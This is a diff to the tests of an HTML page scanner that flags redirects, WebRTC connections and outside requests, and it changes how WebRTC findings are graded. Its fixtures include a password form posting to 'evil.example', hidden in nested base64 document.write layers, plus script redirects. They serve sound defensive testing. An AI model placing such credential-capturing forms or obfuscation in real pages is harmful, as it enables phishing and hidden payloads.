@@ -18,20 +18,24 @@ test('findings are sorted by severity, name their rule and have at most 120 char
     `<img src=a.png>\n<script>location = 'https://e.example'\nnew ` +
     `RTCPeerConnection(${'a, '.repeat(99)})</script>`
   const { verdict, listable, findings } = scan(html)
-  expect({ verdict, listable }).toEqual({ verdict: 'block', listable: false })
+  expect({ verdict, listable }).toEqual({ verdict: 'warn', listable: false })
   expect(findings.map(({ code, effect, line }) => [code, effect, line])).toEqual([
-    ['net.webrtc', 'block', 3],
     ['redirect.script', 'unlist', 2],
     ['net.external', 'warn', 1],
+    ['net.webrtc', 'warn', 3],
   ])
-  expect(findings[0]?.excerpt).toHaveLength(120)
-  expect(findings[1]?.excerpt).toBe("<script>location = 'https://e.example'")
+  expect(findings[2]?.excerpt).toHaveLength(120)
+  expect(findings[0]?.excerpt).toBe("<script>location = 'https://e.example'")
 })
 
 test('returns at most 50 findings, one per code and line', () => {
   const many = scan('<script>\nnew RTCPeerConnection()</script>'.repeat(90))
   expect(many.findings).toHaveLength(50)
-  expect(scan('<script>new RTCPeerConnection(RTCPeerConnection)</script>').findings).toHaveLength(1)
+  expect(
+    scan(
+      '<script>parent.location = top.location = 1; location = "//a.b"; location = "//c.d"</script>',
+    ).findings.filter(({ code }) => code === 'redirect.script'),
+  ).toHaveLength(1)
 })
 
 test('counts every line break before a finding', () => {
@@ -90,9 +94,9 @@ test.each(hostile)('ends: %s', (_, html) => {
 test('nested pages are read to a bounded depth, and then not listed', () => {
   const nest = (html: string, times: number): string =>
     times === 0 ? html : nest(`<script>d.write(atob('${btoa(html)}'))</script>`, times - 1)
-  const connection = '<script>new RTCPeerConnection()</script>'
-  expect(scan(nest(connection, 2)).verdict).toBe('block')
-  expect(scan(nest(connection, 9)).listable).toBe(false)
+  const form = '<form action="https://evil.example"><input type=password></form>'
+  expect(scan(nest(form, 2)).verdict).toBe('block')
+  expect(scan(nest(form, 9)).listable).toBe(false)
 })
 
 test('the text that scripts build is bounded per page, not per script', () => {
